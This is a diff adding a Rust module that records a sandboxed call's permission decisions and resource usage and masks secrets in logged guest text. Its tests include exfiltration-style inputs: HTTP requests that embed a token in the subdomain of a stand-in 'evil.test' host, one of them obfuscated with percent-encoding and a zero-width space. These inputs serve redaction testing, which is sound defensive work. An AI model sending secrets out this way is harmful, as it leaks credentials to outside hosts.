@@ -1,0 +1,157 @@
+//! The record of a call in progress: its decisions and its resource usage. The grants, the sandbox and the gateway
+//! share it, so the record is complete however the call ends.
+//!
+//! All guest text of the grants passes through this record. The record masks secrets before it shortens the text.
+
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::{Arc, Mutex, OnceLock, PoisonError};
+use std::time::Duration;
+
+use tokio::time::Instant;
+
+use super::secrets::Redactor;
+use crate::model::{Consent, DecisionKind, DecisionLog, Usage, text};
+
+/// The most characters of a cure: a command that contains a path from the guest.
+const MAX_CURE_CHARS: usize = 1024;
+
+/// The most characters of the target of a decision.
+const MAX_TARGET_CHARS: usize = 200;
+
+/// A shared handle of the record of one call.
+#[derive(Clone, Default)]
+pub struct CallRecord(Arc<Shared>);
+
+#[derive(Default)]
+struct Shared {
+    decisions: Mutex<DecisionLog>,
+    redactor: OnceLock<Arc<Redactor>>,
+    began: OnceLock<(Instant, u64)>,
+    fuel: AtomicU64,
+    /// In nanoseconds.
+    cpu: AtomicU64,
+    memory: AtomicU64,
+}
+
+impl CallRecord {
+    /// From now on, masks these secrets in all text that is added.
+    pub(super) fn mask_with(&self, redactor: &Arc<Redactor>) {
+        // Only the first redactor counts: a record belongs to one call of one mount.
+        let _ = self.0.redactor.set(Arc::clone(redactor));
+    }
+
+    /// Guest text for a decision: masks secrets, then removes unsafe characters, then shortens to `max` characters.
+    pub fn excerpt(&self, text: &str, max: usize) -> String {
+        match self.0.redactor.get() {
+            Some(redactor) => redactor.excerpt(text, max),
+            None => text::excerpt(text, max),
+        }
+    }
+
+    /// Adds a decision. `target` may be guest text of any length. See [`DecisionLog::add`].
+    pub fn add_decision(
+        &self,
+        grant: &'static str,
+        target: &str,
+        verdict: DecisionKind,
+        cure: impl FnOnce() -> Option<String>,
+    ) {
+        let target = self.excerpt(target, MAX_TARGET_CHARS);
+        let cure = || cure().map(|cure| self.excerpt(&cure, MAX_CURE_CHARS));
+        self.0.decisions.lock().unwrap_or_else(PoisonError::into_inner).add(grant, &target, verdict, cure);
+    }
+
+    /// Adds a consent that a person could give; see [`DecisionLog::request_consent`]. Ignores a consent whose text contains
+    /// a secret.
+    pub fn request_consent(&self, consent: Consent) {
+        if self.excerpt(&consent.target, usize::MAX >> 1) == consent.target {
+            self.0.decisions.lock().unwrap_or_else(PoisonError::into_inner).request_consent(consent);
+        }
+    }
+
+    /// Records the start of the call, and its fuel.
+    pub fn begin(&self, fuel: u64) {
+        let _ = self.0.began.set((Instant::now(), fuel));
+    }
+
+    /// Records the remaining fuel.
+    pub fn fuel_left(&self, left: u64) {
+        if let Some((_, had)) = self.0.began.get() {
+            self.0.fuel.fetch_max(had.saturating_sub(left), Ordering::Relaxed);
+        }
+    }
+
+    /// Records the processor time that the call has used so far.
+    pub fn cpu_used(&self, time: Duration) {
+        let nanos = u64::try_from(time.as_nanos()).unwrap_or(u64::MAX);
+        self.0.cpu.fetch_max(nanos, Ordering::Relaxed);
+    }
+
+    /// Records the peak memory of the call so far, in bytes.
+    pub fn memory_used(&self, bytes: u64) {
+        self.0.memory.fetch_max(bytes, Ordering::Relaxed);
+    }
+
+    /// The resource usage of the call so far. All zero before [`CallRecord::begin`].
+    pub fn usage(&self) -> Usage {
+        let Some((began, _)) = self.0.began.get() else { return Usage::default() };
+        Usage {
+            fuel: self.0.fuel.load(Ordering::Relaxed),
+            time: began.elapsed(),
+            cpu: Duration::from_nanos(self.0.cpu.load(Ordering::Relaxed)),
+            memory: self.0.memory.load(Ordering::Relaxed),
+            bytes: 0,
+        }
+    }
+
+    /// Removes and returns the decisions so far.
+    pub fn take_decisions(&self) -> DecisionLog {
+        std::mem::take(&mut *self.0.decisions.lock().unwrap_or_else(PoisonError::into_inner))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use zeroize::Zeroizing;
+
+    use super::super::secrets::Secret;
+    use super::*;
+
+    #[test]
+    fn secrets_are_masked_before_shortening_and_never_part_of_a_consent() {
+        let secret = Secret::new("s", Zeroizing::new("SecRet-Tok3n-abcdefghij".to_owned())).unwrap();
+        let record = CallRecord::default();
+        record.mask_with(&Arc::new(Redactor::new([&Arc::new(secret)]).unwrap()));
+        for before in 150..=MAX_TARGET_CHARS + 4 {
+            let what = format!("open {}SecRet-Tok3n-abcdefghij", "x".repeat(before));
+            record.add_decision("fs", &what, DecisionKind::Denied, || Some(format!("run: {what}")));
+        }
+        record.add_decision("http", "GET http://secret-tok3n-abcdefghij.evil.test", DecisionKind::Allowed, || None);
+        record.add_decision("http", "GET http://x/%53ec\u{200b}Ret-tok3n-abcdefghij", DecisionKind::Denied, || None);
+        record.request_consent(Consent {
+            grant: "http".into(),
+            target: "https://secret-tok3n-abcdefghij.evil.test".to_owned(),
+        });
+        record.request_consent(Consent { grant: "http".into(), target: "https://fine.test".to_owned() });
+        let record = record.take_decisions();
+        for decision in record.decisions() {
+            for told in [Some(&decision.target), decision.cure.as_ref()].into_iter().flatten() {
+                assert!(!told.to_lowercase().contains("sec") && !told.contains("tok"), "{told}");
+            }
+        }
+        assert_eq!(record.requested().iter().map(|ask| ask.target.as_str()).collect::<Vec<_>>(), ["https://fine.test"]);
+    }
+
+    #[test]
+    fn clones_of_a_record_share_the_usage() {
+        let record = CallRecord::default();
+        assert_eq!(record.usage(), Usage::default());
+        record.begin(100);
+        let other = record.clone();
+        other.fuel_left(60);
+        other.cpu_used(Duration::from_nanos(7));
+        other.memory_used(9);
+        let usage = record.usage();
+        assert_eq!((usage.fuel, usage.cpu, usage.memory), (40, Duration::from_nanos(7), 9));
+    }
+}
